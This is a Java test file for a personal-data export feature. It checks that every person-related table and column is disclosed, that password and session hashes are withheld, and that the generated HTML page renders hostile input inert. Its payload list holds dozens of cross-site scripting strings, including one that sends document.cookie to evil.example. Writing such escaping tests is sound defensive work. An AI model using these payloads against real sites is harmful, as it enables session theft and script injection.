// SPDX-FileCopyrightText: Fundstelle contributors
// SPDX-License-Identifier: EUPL-1.2
package de.fundstelle.retention;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import de.fundstelle.access.Person;
import de.fundstelle.access.Role;
import de.fundstelle.audit.Journal.Action;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DisclosureTest {

    private static final Person ANNA = new Person("person-anna", "anna", Role.READER, Set.of("group-canary"));

    /// Every table in which rows of a person are, straight or through another; a new one needs a place in the export.
    private static final Set<String> TABLES = Set.of(
            "person",
            "person_group",
            "person_identity",
            "session",
            "api_key",
            "collection_grant",
            "correction",
            "conversation",
            "turn");

    /// What is not handed out: secrets in the form of hashes, which are no information about the person, keys between
    /// tables, and the other kind of grant.
    private static final Set<String> WITHHELD = Set.of(
            "person.password",
            "session.hash",
            "session.id",
            "session.provider_session",
            "api_key.hash",
            "collection_grant.collection",
            "collection_grant.group_name",
            "correction.former",
            "conversation.id",
            "turn.id",
            "turn.conversation",
            "turn.ordinal",
            "turn.detail");

    private Archived archived;
    private Disclosure disclosure;

    @BeforeEach
    void open(@TempDir Path folder) {
        archived = new Archived(folder.resolve("test.db"));
        disclosure = new Disclosure(archived.database, archived.conversations, archived.journal, archived.clock);
    }

    @AfterEach
    void close() {
        archived.close();
    }

    @Test
    void everyTableThatHoldsSomethingOfAPersonIsKnownHere() {
        Set<String> holding = new HashSet<>(Set.of("person"));
        int before = 0;
        while (holding.size() > before) {
            before = holding.size();
            for (String table : strings("SELECT name FROM sqlite_schema WHERE type = 'table'")) {
                if (strings("SELECT \"table\" FROM pragma_foreign_key_list('" + table + "')").stream()
                        .anyMatch(holding::contains)) {
                    holding.add(table);
                }
            }
        }
        assertThat(holding).isEqualTo(TABLES);
    }

    @Test
    void everyColumnIsHandedOut() throws Exception {
        fill();
        String json = new String(disclosure.of(ANNA).json(), java.nio.charset.StandardCharsets.UTF_8);
        for (String table : TABLES) {
            for (Map<String, Object> row : rows(table)) {
                row.forEach((column, value) -> {
                    if (!WITHHELD.contains(table + "." + column)) {
                        assertThat(json).as(table + "." + column).contains(written(column, value));
                    }
                });
            }
        }
        JsonNode told = new JsonMapper().readTree(json);
        assertThat(told.at("/grants/0/collection").asText()).isEqualTo("collection-canary");
        assertThat(told.at("/journal"))
                .as("what was done by, to and for the person")
                .hasSize(4);
        assertThat(told.at("/journal/0/actor").asBoolean()).isTrue();
        assertThat(json).doesNotContain("somebody-else", "hash-canary", "password-canary");
        assertThat(archived.journal
                        .newest(Optional.empty(), Optional.empty(), 1)
                        .getFirst()
                        .action())
                .isEqualTo("PERSON_EXPORTED");
    }

    @Test
    void quotedWordsComeOnlyAsFarAsTheyMayBeReadToday() {
        fill();
        assertThat(disclosure
                        .of(ANNA)
                        .conversations()
                        .getFirst()
                        .turns()
                        .getFirst()
                        .sources())
                .singleElement()
                .satisfies(source -> assertThat(source.text()).isEmpty());
    }

    @Test
    void thePageShowsEveryWordAndRunsNone() {
        List<String> payloads = payloads();
        assertThat(payloads).hasSizeGreaterThanOrEqualTo(50);
        for (String payload : payloads) {
            Disclosure.Everything everything = new Disclosure.Everything(
                    "2026-01-05T08:00:00Z",
                    new Disclosure.Account(
                            payload,
                            payload,
                            payload,
                            new TreeSet<>(Set.of(payload)),
                            true,
                            true,
                            "2026-01-05T08:00:00Z",
                            payload,
                            payload),
                    List.of(new Disclosure.OneSession(payload, "2026-01-05T08:00:00Z", "2026-01-05T08:00:00Z")),
                    List.of(new Disclosure.OneKey(
                            payload, payload, payload, "2026-01-05T08:00:00Z", "2026-01-05T08:00:00Z")),
                    List.of(new Disclosure.OneGrant(payload, payload)),
                    List.of(new Disclosure.OneCorrection(payload, payload, payload, "2026-01-05T08:00:00Z")),
                    List.of(new Disclosure.OneConversation(
                            payload,
                            "2026-01-05T08:00:00Z",
                            "2026-01-05T08:00:00Z",
                            List.of(new Disclosure.OneTurn(
                                    "2026-01-05T08:00:00Z",
                                    payload,
                                    payload,
                                    payload,
                                    payload + " reason",
                                    payload,
                                    1,
                                    List.of(new Disclosure.OneSource(1, payload, payload, payload)))))),
                    List.of(new Disclosure.OneEntry("2026-01-05T08:00:00Z", true, payload, payload, payload)));
            Document page = Jsoup.parse(everything.html());
            for (Element element : page.getAllElements()) {
                assertThat(element.normalName())
                        .as(payload)
                        .isIn(
                                "#root", "html", "head", "meta", "title", "body", "h1", "h2", "h3", "h4", "p", "br",
                                "ul", "li");
                element.attributes()
                        .forEach(attribute ->
                                assertThat(attribute.getKey()).as(payload).isIn("lang", "charset"));
            }
            String shown = page.body().wholeText();
            int times = shown.split(java.util.regex.Pattern.quote(payload.strip()), -1).length - 1;
            assertThat(times).as("%s in %s", payload, shown).isGreaterThanOrEqualTo(15);
        }
    }

    private static List<String> payloads() {
        List<String> payloads = new java.util.ArrayList<>();
        for (String script : List.of("alert(1)", "fetch('//evil.example/'+document.cookie)")) {
            for (String form : List.of(
                    "<script>%s</script>",
                    "<ScRiPt>%s</sCrIpT>",
                    "<script src=//evil.example></script>%s",
                    "<img src=x onerror=%s>",
                    "<svg onload=%s>",
                    "<svg><script>%s</script></svg>",
                    "<body onload=%s>",
                    "<iframe src=\"javascript:%s\">",
                    "<a href=\"javascript:%s\">x</a>",
                    "\"><script>%s</script>",
                    "'><script>%s</script>",
                    "</title><script>%s</script>",
                    "</li></ul><script>%s</script>",
                    "<!--><script>%s</script>-->",
                    "<![CDATA[<script>%s</script>]]>",
                    "<math><mtext></p><script>%s",
                    "<details open ontoggle=%s>",
                    "<video><source onerror=%s>",
                    "<input autofocus onfocus=%s>",
                    "<marquee onstart=%s>",
                    "<object data=\"javascript:%s\">",
                    "<embed src=\"javascript:%s\">",
                    "<form action=\"javascript:%s\"><button>",
                    "<base href=//evil.example/>%s",
                    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
                    "<link rel=stylesheet href=//evil.example>%s",
                    "<style>@import'//evil.example';</style>%s",
                    "&lt;script&gt;%s&lt;/script&gt;",
                    "&#60;script&#62;%s&#60;/script&#62;",
                    "<template><script>%s</script></template>",
                    "<xmp><script>%s</script>")) {
                payloads.add(form.formatted(script));
            }
        }
        return payloads;
    }

    /// One row of everything, each value its own.
    private void fill() {
        archived.sql(
                "INSERT INTO person VALUES ('person-anna', 'anna', 'reader', 'password-canary', 1, 1000000000001)");
        archived.sql("INSERT INTO person_group VALUES ('person-anna', 'group-canary')");
        archived.sql(
                "INSERT INTO person_identity (provider, subject, person) VALUES ('provider-canary', 'subject-canary', 'person-anna')");
        archived.sql(
                "INSERT INTO session VALUES ('hash-canary', 'session-canary', 'person-anna', 'browser-canary', 'sid-canary', 1000000000002, 1000000000003)");
        archived.sql(
                "INSERT INTO api_key VALUES ('key-canary', 'hash-canary', 'person-anna', 'key-name-canary', 1000000000004, 'read,manage', 1000000000005)");
        archived.sql(
                "INSERT INTO collection (id, name, access_right, contact, sample, created) VALUES ('c', 'collection-canary', 'r', '', 0, 1)");
        archived.sql("INSERT INTO collection_grant VALUES ('c', 'contribute', NULL, 'person-anna')");
        archived.sql(
                "INSERT INTO document (id, collection, source_key, name, title, state, changed) VALUES ('document-canary', 'c', 'k', 'n', 't', 'waiting', 1)");
        archived.sql(
                "INSERT INTO correction VALUES ('document-canary', 'fact-canary', 'value-canary', 'former', 'person-anna', 1000000000009)");
        archived.sql(
                "INSERT INTO conversation VALUES ('conversation-canary', 'person-anna', 'title-canary', 1000000000006, 1000000000007)");
        archived.sql(
                "INSERT INTO turn VALUES ('turn-canary', 'conversation-canary', 1, 'question-canary', 'answer-canary', 'DECLINED', 'reason-canary', ?, 'model-canary', 1000000000008, 4711)",
                RetentionTest.detail("unreadable"));
        archived.sql("INSERT INTO person VALUES ('other', 'somebody-else', 'reader', 'password-canary', 1, 1)");
        archived.journal.record("person-anna", Action.KEY_MADE, "key-canary", "done");
        archived.journal.record("other", Action.PERSON_CHANGED, "person-anna", "done");
        archived.journal.record("other", Action.GRANTS_CHANGED, "c", "given [read person person-anna], taken []");
        archived.journal.record("other", Action.GRANTS_CHANGED, "c", "given [read person nobody], taken []");
    }

    private static String written(String column, Object value) {
        if (value instanceof Number number && number.longValue() > 1_000_000_000_000L) {
            return java.time.Instant.ofEpochMilli(number.longValue()).toString();
        }
        if (column.equals("enabled") || column.equals("admitted")) {
            return "\"" + column + "\" : true";
        }
        return column.equals("outcome") ? value.toString().toLowerCase(java.util.Locale.ROOT) : value.toString();
    }

    private List<Map<String, Object>> rows(String table) {
        String mine = table.equals("person") ? " WHERE id = 'person-anna'" : "";
        List<Map<String, Object>> rows = archived.database.read(handle ->
                handle.createQuery("SELECT * FROM " + table + mine).mapToMap().list());
        assertThat(rows).as(table).isNotEmpty();
        return rows;
    }

    private List<String> strings(String sql) {
        return archived.database.read(
                handle -> handle.createQuery(sql).mapTo(String.class).list());
    }
}
